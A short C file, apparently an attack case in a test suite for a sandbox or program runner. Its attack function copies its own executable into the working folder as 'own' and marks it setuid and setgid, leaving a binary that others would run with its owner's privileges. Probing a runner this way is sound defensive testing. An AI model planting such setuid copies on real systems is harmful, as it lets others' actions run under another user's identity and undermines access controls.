/* Leaves a program in its folder that others would run as its user. */
#include "../attack.h"
static void attack(void)
{
	char text[4096];
	int from = open("/proc/self/exe", O_RDONLY), to = open("own", O_RDWR | O_CREAT, 0755);
	for (ssize_t count; (count = read(from, text, sizeof text)) > 0;)
		(void)!write(to, text, count);
	fchmod(to, 06755);
	close(to);
	/* The runner looks at it meanwhile. */
	usleep(700000);
}
